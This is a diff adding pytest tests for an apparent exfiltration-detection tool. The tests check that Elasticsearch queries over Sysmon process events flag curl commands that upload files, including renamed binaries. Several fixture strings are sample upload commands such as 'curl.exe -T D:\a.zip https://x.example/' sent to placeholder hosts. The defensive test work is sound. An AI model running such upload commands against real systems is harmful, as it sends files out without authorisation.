@@ -1,0 +1,157 @@
+"""Of starts of processes in a real search engine come those whose command lines do something; of starts that link
+others, what tells of the process."""
+
+import json
+
+import pytest
+
+from exfilwatch.detection.load import load
+from exfilwatch.detection.trees import TOLD
+from exfilwatch.events.event import Origin
+from exfilwatch.events.shape import recognise
+from exfilwatch.polling.linking import RULE
+from exfilwatch.rules.packs import pack
+from exfilwatch.siem.elastic_looks import looks
+from exfilwatch.siem.queries.elastic_mapping import ElasticMapping, Indexed
+from exfilwatch.siem.siem import SECOND, Ask, Clock, Near
+
+NOON = 1_735_732_800 * SECOND
+"""2025-01-01T12:00:00Z"""
+CUT = {"type": "keyword", "ignore_above": 60}
+SENDING = "curl.exe -T D:\\a.zip https://x.example/"
+LINES = {
+    "sends": SENDING,
+    "sends to another": "curl.exe -T D:\\b.zip https://y.example/",
+    "asks only": "curl.exe -sS https://x.example/health",
+    "edits": '"C:\\Windows\\notepad.exe" C:\\notes.txt',
+    "is too long to be indexed": f"curl.exe {'-H x ' * 20} -T D:\\a.zip https://x.example/",
+}
+
+
+def start(line: str, image: str = "C:\\Windows\\System32\\curl.exe", number: int = 1) -> dict[str, object]:
+    """As winlogbeat has it."""
+    return {
+        "@timestamp": "2025-01-01T12:00:01Z",
+        "event": {"code": "1", "provider": "Microsoft-Windows-Sysmon"},
+        "host": {"name": "ws1", "os": {"family": "windows"}},
+        "message": line,
+        "process": {
+            "command_line": line,
+            "executable": image,
+            "pid": 100 + number,
+            "entity_id": f"{{6fe2d477-8b74-3a90-0001-{number:012}}}",
+            "parent": {"pid": 4, "executable": "C:\\Windows\\explorer.exe", "command_line": "explorer.exe"},
+        },
+        "user": {"domain": "CORP", "name": "anna"},
+        "winlog": {"channel": "Microsoft-Windows-Sysmon/Operational", "event_id": "1", "record_id": number},
+    }
+
+
+def properties(line: dict[str, object]) -> dict[str, object]:
+    return {"properties": {"process": {"properties": {"command_line": line}}}, "dynamic_templates": KEYWORDS}
+
+
+KEYWORDS = [{"k": {"match_mapping_type": "string", "mapping": {"type": "keyword"}}}]
+
+
+@pytest.fixture(scope="module")
+def rules():
+    return tuple(load([pack("exfil")]).rules)
+
+
+def lines(records: list[bytes]) -> set[str]:
+    return {name for name, line in LINES.items() for record in records if json.loads(record)["message"] == line}
+
+
+@pytest.mark.parametrize(
+    ("line", "also"),
+    [
+        pytest.param({"type": "keyword"}, set(), id="whole"),
+        pytest.param(CUT, set(), id="cut"),
+        pytest.param({"type": "keyword", "doc_values": False}, None, id="without values"),
+        pytest.param({"type": "text"}, None, id="words only"),
+    ],
+)
+def test_those_come_whose_lines_do_something(searching, rules, line, also):
+    searching.create(mappings=properties(line))
+    searching.put(start(text, number=number) for number, text in enumerate(LINES.values()))
+    found = lines(searching.fetch(Ask(Clock.EVENT, NOON, NOON + 60 * SECOND, rules)))
+    sends = {"sends", "sends to another", "is too long to be indexed"}
+    assert sends <= found
+    assert also is None or found == sends | also
+
+
+def test_lines_of_other_times_are_of_no_matter(searching, rules):
+    searching.create(mappings=properties({"type": "keyword"}))
+    searching.put([start(SENDING)])
+    assert searching.fetch(Ask(Clock.EVENT, NOON + 2 * SECOND, NOON + 60 * SECOND, rules)) == []
+
+
+def test_a_program_under_another_name_is_known_by_the_name_in_its_file(searching, rules):
+    searching.create(mappings=properties({"type": "keyword"}))
+    renamed = start("x.exe -T D:\\a.zip https://x.example/", "C:\\x.exe")
+    named = start("x.exe push D:\\a.zip", "C:\\x.exe") | {"n": 2}
+    named["process"] = {**dict(named["process"]), "pe": {"original_file_name": "curl.exe"}}
+    searching.put([renamed, named])
+    records = [json.loads(each) for each in searching.fetch(Ask(Clock.EVENT, NOON, NOON + 60 * SECOND, rules))]
+    assert [each["process"]["command_line"] for each in records if "n" not in each] == [renamed["message"]]
+
+
+def test_more_lines_than_one_answer_has_are_read_page_by_page(searching, rules, monkeypatch):
+    monkeypatch.setattr("exfilwatch.siem.elastic_looks._PAGE", 7)
+    searching.create(mappings=properties({"type": "keyword"}))
+    texts = [SENDING.replace("a.zip", f"{n}.zip") if n % 5 == 0 else f"notepad.exe {n}.txt" for n in range(40)]
+    searching.put(start(text, number=n) for n, text in enumerate(texts))
+    found = searching.fetch(Ask(Clock.EVENT, NOON, NOON + 60 * SECOND, rules))
+    assert sorted(json.loads(each)["message"] for each in found) == sorted(texts[::5])
+
+
+def test_starts_that_link_others_tell_all_that_is_asked_of_them(searching):
+    searching.create(mappings=properties({"type": "keyword"}))
+    linux = {
+        "@timestamp": "2025-01-01T12:00:02Z",
+        "event": {"category": "process", "type": "start"},
+        "host": {"name": "ws1", "os": {"type": "linux"}},
+        "process": {"command_line": "ls", "executable": "/bin/ls", "pid": 7, "parent": {"pid": 6}},
+    }
+    written = [start(SENDING), linux]
+    searching.put(written)
+    ask = Ask(Clock.EVENT, None, None, (RULE,), (Near("ws1", NOON, NOON + 60 * SECOND),), starts=True)
+    found = sorted(map(json.loads, searching.fetch(ask)), key=lambda record: record["@timestamp"])
+    fields = ("Computer", *TOLD)
+    for was, came in zip(written, found, strict=True):
+        one, other = (_event(record) for record in (was, came))
+        assert (one.category, one.time, one.id) == (other.category, other.time, other.id)
+        assert [one.get(field) for field in fields] == [other.get(field) for field in fields]
+    assert "parent" in found[0]["process"]
+    assert "command_line" not in found[0]["process"]
+    assert found[1] == linux
+
+
+def _event(record):
+    shape = recognise(record)
+    return shape.event(record, Origin("test"), json.dumps(record).encode())
+
+
+@pytest.mark.parametrize(
+    ("way", "tells"),
+    [
+        (Indexed("process.command_line", "keyword"), True),
+        (Indexed("process.command_line", "keyword", 1024), True),
+        (Indexed("process.command_line", "keyword", normalizer="lowercase"), False),
+        (Indexed("process.command_line", "wildcard"), False),
+        (Indexed("process.command_line", "text"), False),
+    ],
+    ids=["keyword", "cut", "folded", "wildcard", "text"],
+)
+def test_which_indices_tell_their_lines(way, tells):
+    fields = {way.path: (way,)} | {
+        path: (Indexed(path, "keyword"),) for path in ("process.executable", "winlog.channel", "event.code")
+    }
+    assert (looks([ElasticMapping(fields)]) is not None) is tells
+    assert (
+        looks(
+            [ElasticMapping(fields), ElasticMapping({"process.executable": (Indexed("process.executable", "text"),)})]
+        )
+        is None
+    )
